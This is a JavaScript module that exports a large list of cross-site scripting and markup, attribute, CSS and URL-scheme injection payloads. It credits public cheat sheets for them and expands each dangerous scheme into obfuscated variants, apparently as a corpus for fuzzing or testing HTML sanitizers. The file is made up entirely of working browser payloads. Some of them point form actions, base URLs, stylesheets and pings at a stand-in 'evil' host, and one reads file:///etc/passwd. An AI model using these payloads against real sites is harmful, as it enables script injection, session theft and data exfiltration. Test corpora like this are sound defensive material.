// What people put into forms to break out of a page: from the OWASP and PortSwigger cheat sheets, html5sec and their
// kin, plus every address scheme that runs or reads something in every disguise that browsers see through.

const markup = [
  `<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `</script><script>alert(1)</script>`,
  `</noscript><script>alert(1)</script>`, `</xmp><script>alert(1)</script>`, `</iframe><script>alert(1)</script>`,
  `</template><script>alert(1)</script>`, `</select><script>alert(1)</script>`, `</option></select><img src=x onerror=alert(1)>`,
  `</svg><script>alert(1)</script>`, `</math><script>alert(1)</script>`, `</table><script>alert(1)</script>`,
  `</plaintext><script>alert(1)</script>`, `</comment><script>alert(1)</script>`, `</pre><script>alert(1)</script>`,
  `</p></div></body></html><script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<img src=x onerror="alert(1)"/>`,
  `<IMG SRC=x ONERROR=alert(1)>`, `<img/src=x/onerror=alert(1)>`, `<img\tsrc=x\nonerror=alert(1)>`, `<img src="x"onerror="alert(1)">`,
  `<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:alert(1)>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`,
  `<svg><a xlink:href=javascript:alert(1)><text>x</text></a>`, `<svg><foreignObject><script>alert(1)</script></foreignObject></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><mtext><script>alert(1)</script>`, `<math href=javascript:alert(1)>x</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<body onload=alert(1)>`, `<html onmouseover=alert(1)>`,
  `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<audio src onloadstart=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>`,
  `<isindex type=image src=1 onerror=alert(1)>`, `<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`,
  `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`, `<applet code=x>`, `<frameset onload=alert(1)>`,
  `<base href=//evil>`, `<base href="javascript:/a/+alert(1)//">`, `<link rel=stylesheet href=//evil>`, `<link rel=import href=data:text/html,x>`,
  `<meta http-equiv=refresh content=0;url=javascript:alert(1)>`, `<meta charset=utf-7>`, `<style>@import '//evil';</style>`,
  `<style>*{background:url(//evil)}</style>`, `<form action=//evil><input name=a>`, `<button formaction=javascript:alert(1)>x</button>`,
  `<a href=javascript:alert(1)>x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<area href=javascript:alert(1)>`,
  `<template><script>alert(1)</script></template>`, `<template shadowrootmode=open><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<title><img src=x onerror=alert(1)></title>`, `<plaintext>`, `<listing>&lt;img onerror=alert(1) src&gt;</listing>`,
  `<x onclick=alert(1)>`, `<x contenteditable onblur=alert(1)>`, `<x style="background:url(javascript:alert(1))">`, `<slot onslotchange=alert(1)>`,
  `<dialog open oncancel=alert(1)>`, `<portal src=javascript:alert(1)>`, `<a ping=//evil href=#>x</a>`, `<image src=x onerror=alert(1)>`,
  `<<script>alert(1)//<</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<SCRIPT SRC=//x></SCRIPT>`, `<script/src=//x></script>`,
  `<script\fsrc=//x></script>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`, "<IMG SRC=`javascript:alert(1)`>", `<?php echo 1 ?>`,
  `<?xml-stylesheet href="javascript:alert(1)"?>`, `<!DOCTYPE html><script>`, `<![CDATA[<script>alert(1)</script>]]>`, `]]><script>alert(1)</script>`,
  `<!ENTITY x "y">`, `<%00script>alert(1)</script>`, `<\0script>alert(1)</script>`, `<script\0>alert(1)</script>`, `<`, `>`, `"`, `'`, "`", `&`, `<a`, `</`, `<!`,
  `<!-`, `<!--`, `-->`, `--!>`, `--`, `-`, `->`, `>-->`, `<!-->`, `<!--->`, `--><script>alert(1)</script>`, `--!><script>alert(1)</script>`,
  `-- ><img src=x onerror=alert(1)>`, `<!--<script>`, `<!--<script>alert(1)//--></script>`, `<!--[if IE]><script>alert(1)</script><![endif]-->`,
];

const attributes = [
  `" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `" onfocus=alert(1) autofocus x="`, `" autofocus onfocus="alert(1)" "`,
  `x onload=alert(1)`, `x/onload=alert(1)`, `x\nonload=alert(1)`, `x\fonload=alert(1)`, `onclick`, `ONCLICK`, `OnError`, `onclick=`, `onx`, `srcdoc`, `SRCDOC`,
  `http-equiv`, `sx-on:click`, `style`, `href`, `xlink:href`, `formaction`, `is`, `a b`, `a=b`, `a>b`, `a/b`, `a"b`, `a'b`, `a<b`, `a\0b`, `a\tb`, `=a`, `&a`, `:`, `-`, `1`,
  `é`, `\u200Bonclick`, `on\u200Bclick`, `\u017Fcript`, `on\nclick`, ` onclick`, `" style="background:url(javascript:alert(1))`, `" srcdoc="<script>alert(1)</script>`,
  `">&lt;script&gt;`, `&quot;>`, `&#34; onload=alert(1) x=&#34;`, `&#x22; onload=alert(1)`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `&#x3c;script&#x3e;`,
  `&NewLine;javascript&colon;alert(1)`, `&ltscript&gt`, `%3Cscript%3E`, `\\x3cscript\\x3e`, `\\u003cscript\\u003e`, `+ADw-script+AD4-`, `\uFF1Cscript\uFF1E`, `\u2028</script>`, `{{constructor.constructor('alert(1)')()}}`,
  "${alert(1)}", `<%= 7*7 %>`, `javascript`, `\ufeff"><b>`, `\u202e"><b>`, `\r\n\r\n<script>`, `"\r\nonload=alert(1)`, `a\u0000"><script>`, `\ud83d\ude00"><script>`,
];

const styles = [
  `color:red;background:url(javascript:alert(1))`, `background:URL(//evil)`, `width:expression(alert(1))`, `x:e\\78 pression(alert(1))`, `x:exp/**/ression(alert(1))`,
  `behavior:url(//evil.htc)`, `-moz-binding:url(//evil)`, `background:u\\72l(//evil)`, `color:red}body{display:none`, `x:</style><script>alert(1)</script>`,
  `background:image-set('//evil' 1x)`, `background:src('//evil')`, `@import '//evil'`, `x:'\n;y:url(x)`, `content:"</style>"`, `x:1;;;:;url(x)`, `background:-webkit-image-set(url(x))`,
  `x:attr(y)`, `x:element(#a)`, `list-style:url("javascript:alert(1)")`, `background:\\75\\72\\6C(//evil)`, `x:var(--a,url(//evil))`, `filter:progid:DXImageTransform.Microsoft.Alpha(x)`,
  `position:fixed;top:0;left:0;width:100%;height:100%`, `color:red;`, `--x:</style>`, `font-family:'</style><img src=x onerror=alert(1)>'`, `x:\\`, `x:"`, `x:(`, `x:/*`, `x:<!--`,
];

const schemes = ["javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "blob:https://x/1"];
const odd = [
  "livescript:x", "mocha:x", "data:,x", "data:application/xhtml+xml,x", "data:text/javascript,alert(1)", "data:image/pngx,x", "data: text/html,x", "DATA:text/html,x", "filesystem:https://x/1",
  "view-source:javascript:x", "feed:javascript:alert(1)", "jar:javascript:x", "ws://x", "chrome://x", "resource://x", "intent://x", "ms-its:x", "mhtml:x", "about:blank", "javascript://x%0aalert(1)",
  "javascript:/*http://*/alert(1)", "javascript:alert(1)//http://x", "\u00A0javascript:alert(1)", "\u200Bjavascript:alert(1)", "\uFEFFjavascript:alert(1)", "javascript\uFF1A:x", "javascript&#58;alert(1)",
  "javascript&colon;alert(1)", "%6aavascript:alert(1)", "java%0ascript:alert(1)", "//evil", "\\\\evil", "/\\evil", "https:javascript:alert(1)", "http://x\" onload=\"", "?javascript:alert(1)", "#javascript:alert(1)",
  "0;url=javascript:alert(1)", "0;javascript:alert(1)", "5; URL='javascript:alert(1)'", "0,url = \"javascript:alert(1)\"", "/a.png 1x, javascript:alert(1) 2x", "javascript:alert(1) 1x", "x,javascript:alert(1)", "x;javascript:alert(1)",
];
const disguises = [
  (s) => s, (s) => s.toUpperCase(), (s) => ` ${s}`, (s) => `\t${s}`, (s) => `\n${s}`, (s) => `\x01${s}`, (s) => `\x1f${s}`,
  (s) => `${s.slice(0, 4)}\t${s.slice(4)}`, (s) => `${s.slice(0, 3)}\n${s.slice(3)}`, (s) => `${s.slice(0, 2)}\r${s.slice(2)}`, (s) => s.replace(":", "\t:"), (s) => s.replace(":", "\n:"),
];

export const payloads = [...new Set([...markup, ...attributes, ...styles, ...odd, ...schemes.flatMap((s) => disguises.map((d) => d(s)))])];
